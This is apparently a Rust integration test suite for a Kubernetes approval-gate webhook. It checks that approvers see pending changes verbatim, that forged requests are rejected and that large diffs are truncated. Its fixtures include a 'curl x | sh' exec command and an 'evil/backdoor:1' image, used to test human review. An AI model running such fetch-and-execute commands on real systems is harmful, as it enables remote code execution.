//! Approvers see exactly what they approve: the webhook records the change
//! a held action would make, and `kubectl approve` shows it, each person
//! acting as themselves through the real kubectl and the plugin.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::time::Duration;

use approval_gate::crd::{ApprovalRequest, MAX_CHANGE_BYTES, Phase};
use kube::Api;
use support::*;

async fn get_request(ns: &str, name: &str) -> ApprovalRequest {
    Api::<ApprovalRequest>::namespaced(client(&ADMIN).await, ns)
        .get(name)
        .await
        .unwrap()
}

/// A policy in `ns` holding `operations` on `resources` of `group`, approved by sre.
async fn gate(ns: &str, group: &str, resources: &str, operations: &str) -> String {
    let spec = format!(
        "rules: [{{apiGroups: ['{group}'], resources: [{resources}], namespaces: [{ns}], \
         operations: [{operations}]}}]\napprovers: {{groups: [sre]}}\n"
    );
    install_policy(ns, &spec).await
}

/// Retries `attempt` until it passes: the webhook decides from its watch
/// cache, which sees a new approval a moment after it is written.
async fn passes_once_approved(mut attempt: impl FnMut() -> KubectlOutput) -> String {
    let mut last = String::new();
    for _ in 0..100 {
        let out = attempt();
        if out.success() {
            return out.stdout();
        }
        last = out.stderr();
        assert!(last.contains("approval"), "{last}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("never passed after approval: {last}");
}

#[tokio::test]
async fn approver_sees_the_new_image_in_describe_diff_and_list() {
    let ns = namespace("img").await;
    gate(&ns, "apps", "deployments", "UPDATE").await;
    apply(&ADMIN, &deployment(&ns, "checkout", "nginx:1.27")).ok();
    let msg = kubectl(&ALICE)
        .args([
            "set",
            "image",
            "deployment/checkout",
            "app=evil/backdoor:1",
            "-n",
            &ns,
        ])
        .run()
        .fails();
    let name = request_name(&msg, &ns);

    let described = plugin_ok(&BOB, &["describe", &name, "-n", &ns]);
    assert!(
        described.contains("\n  -        image: nginx:1.27\n  +        image: evil/backdoor:1\n"),
        "{described}"
    );
    assert!(
        described.contains("Change:       image app: nginx:1.27 → evil/backdoor:1"),
        "{described}"
    );
    assert!(
        !described.contains("Warning:"),
        "the base is current: {described}"
    );
    let diff = plugin_ok(&BOB, &["diff", &name, "-n", &ns]);
    assert!(
        diff.starts_with("--- deployments.apps/checkout (live, resourceVersion "),
        "{diff}"
    );
    assert!(
        diff.contains("\n-        image: nginx:1.27\n+        image: evil/backdoor:1\n"),
        "{diff}"
    );
    let listed = plugin_ok(&BOB, &["list", "-n", &ns, "-o", "wide"]);
    assert!(
        listed.contains("CHANGE") && listed.contains("image app: nginx:1.27 → evil/backdoor:1"),
        "{listed}"
    );
    let structured: serde_json::Value =
        serde_json::from_str(&plugin_ok(&BOB, &["diff", &name, "-n", &ns, "-o", "json"])).unwrap();
    assert_eq!(
        structured["fields"][0]["path"],
        "spec.template.spec.containers[name=app].image"
    );
    assert_eq!(structured["fields"][0]["before"], "nginx:1.27");
    assert_eq!(structured["fields"][0]["after"], "evil/backdoor:1");

    // The object moves on (the admin scales it): the diff describes an old base, and says so.
    kubectl(&ADMIN)
        .args(["scale", "deployment/checkout", "--replicas=3", "-n", &ns])
        .run()
        .ok();
    let described = plugin_ok(&BOB, &["describe", &name, "-n", &ns]);
    assert!(
        described.contains("Warning:      the object has changed since the request was made"),
        "{described}"
    );
}

#[tokio::test]
async fn exec_command_line_is_shown_verbatim() {
    let ns = namespace("exec").await;
    gate(&ns, "", "pods/exec", "CONNECT").await;
    let pod = format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: web-0, namespace: {ns}}}\n\
         spec: {{containers: [{{name: app, image: app:v1}}]}}\n"
    );
    apply(&ADMIN, &pod).ok();
    let msg = kubectl(&ALICE)
        .args([
            "exec",
            "web-0",
            "-n",
            &ns,
            "-c",
            "app",
            "--",
            "sh",
            "-c",
            "curl x | sh",
        ])
        .run()
        .fails();
    let name = request_name(&msg, &ns);
    let described = plugin_ok(&BOB, &["describe", &name, "-n", &ns]);
    assert!(
        described.contains("Command:      sh -c 'curl x | sh'\n"),
        "{described}"
    );
    assert!(
        described.contains("exec: sh -c 'curl x | sh' in container app"),
        "{described}"
    );
    let req = get_request(&ns, &name).await;
    let connect = req.spec.change.unwrap().connect.unwrap();
    assert_eq!(connect.command, ["sh", "-c", "curl x | sh"]);
    assert_eq!(connect.container.as_deref(), Some("app"));
}

#[tokio::test]
async fn delete_shows_the_uid_and_the_propagation_policy() {
    let ns = namespace("del").await;
    gate(&ns, "apps", "deployments", "DELETE").await;
    apply(&ADMIN, &deployment(&ns, "checkout", "app:v1")).ok();
    let uid = kubectl(&ADMIN)
        .args([
            "get",
            "deployment",
            "checkout",
            "-n",
            &ns,
            "-o",
            "jsonpath={.metadata.uid}",
        ])
        .run()
        .ok();
    let msg = kubectl(&ALICE)
        .args([
            "delete",
            "deployment",
            "checkout",
            "-n",
            &ns,
            "--cascade=foreground",
        ])
        .run()
        .fails();
    let name = request_name(&msg, &ns);
    let diff = plugin_ok(&BOB, &["diff", &name, "-n", &ns]);
    assert!(diff.contains(&format!("-  uid: {uid}\n")), "{diff}");
    assert!(diff.contains("# propagation policy: Foreground"), "{diff}");
    let described = plugin_ok(&BOB, &["describe", &name, "-n", &ns]);
    assert!(
        described.contains(&format!("(uid {uid}, propagation Foreground)")),
        "{described}"
    );
}

/// alice writes a request by hand that shows one ConfigMap and binds another.
fn hand_made(ns: &str, policy: &str, shown: &str, digest: &str) -> String {
    let summary = "create ConfigMap flags";
    format!(
        "apiVersion: approvalgate.dev/v1alpha1\nkind: ApprovalRequest\nmetadata: {{name: by-hand, namespace: {ns}}}\n\
         spec:\n  requester: alice\n  operation: CREATE\n  policy: {policy}\n  digest: '{digest}'\n  \
         target: {{apiGroup: '', resource: configmaps, namespace: {ns}, name: flags}}\n  change:\n    \
         summary: {summary}\n    fields:\n    - {{path: apiVersion, after: v1}}\n    - {{path: data, after: {{mode: {shown}}}}}\n    \
         - {{path: kind, after: ConfigMap}}\n    - {{path: metadata, after: {{name: flags, namespace: {ns}}}}}\n"
    )
}

#[tokio::test]
async fn a_hand_made_change_that_disagrees_with_its_digest_is_rejected() {
    let ns = namespace("hand").await;
    let policy = gate(&ns, "", "configmaps", "CREATE").await;
    let object = |mode: &str| {
        serde_json::json!({"apiVersion": "v1", "kind": "ConfigMap", "data": {"mode": mode},
                           "metadata": {"name": "flags", "namespace": ns}})
    };
    let digest_of = |mode: &str| {
        approval_gate::admission::digest::digest(
            approval_gate::crd::Operation::Create,
            Some(&object(mode)),
            None,
        )
        .unwrap()
    };
    let forged = hand_made(&ns, &policy, "safe", &digest_of("evil"));
    let refused = kubectl(&ALICE)
        .args(["create", "-f", "-"])
        .stdin(forged)
        .run()
        .fails();
    assert!(
        refused.contains("spec.change does not agree with spec.digest"),
        "{refused}"
    );
    assert!(refused.contains("change-matches-digest"), "{refused}");
    let honest = hand_made(&ns, &policy, "safe", &digest_of("safe"));
    kubectl(&ALICE)
        .args(["create", "-f", "-"])
        .stdin(honest)
        .run()
        .ok();
}

#[tokio::test]
async fn a_900_kib_configmap_change_is_cut_under_the_cap_and_passes_once_approved() {
    let ns = namespace("big").await;
    gate(&ns, "", "configmaps", "UPDATE").await;
    let manifest = |marker: &str| {
        let body: String = (0..22_000)
            .map(|i| {
                format!(
                    "line {i:05}: {} padding padding padding\n",
                    if i == 20_345 { marker } else { "same" }
                )
            })
            .collect();
        let data = serde_json::json!({ "app.conf": body });
        format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: big, namespace: {ns}}}\ndata: {data}\n"
        )
    };
    let (v1, v2) = (manifest("old"), manifest("new"));
    assert!(v2.len() > 900 * 1024, "{}", v2.len());
    kubectl(&ADMIN)
        .args(["create", "-f", "-"])
        .stdin(v1)
        .run()
        .ok();
    let replace = || {
        kubectl(&ALICE)
            .args(["replace", "-f", "-"])
            .stdin(v2.clone())
            .run()
    };
    let name = request_name(&replace().fails(), &ns);

    let req = get_request(&ns, &name).await;
    let change = req.spec.change.clone().unwrap();
    let size = serde_json::to_vec(&change).unwrap().len();
    assert!(size < MAX_CHANGE_BYTES, "the record is {size} bytes");
    assert!(change.truncated.unwrap().omitted_lines > 10_000);
    let diff = plugin_ok(&BOB, &["diff", &name, "-n", &ns]);
    assert!(
        diff.contains("more lines not shown"),
        "{}",
        &diff[diff.len().saturating_sub(600)..]
    );
    assert!(
        diff.lines()
            .any(|l| l.starts_with('+') && l.contains("line 20345: new")),
        "the change itself is shown"
    );

    plugin_ok(&BOB, &[&name, "-n", &ns]);
    passes_once_approved(replace).await;
    assert_eq!(
        get_request(&ns, &name).await.status.unwrap().phase,
        Some(Phase::Used)
    );
}
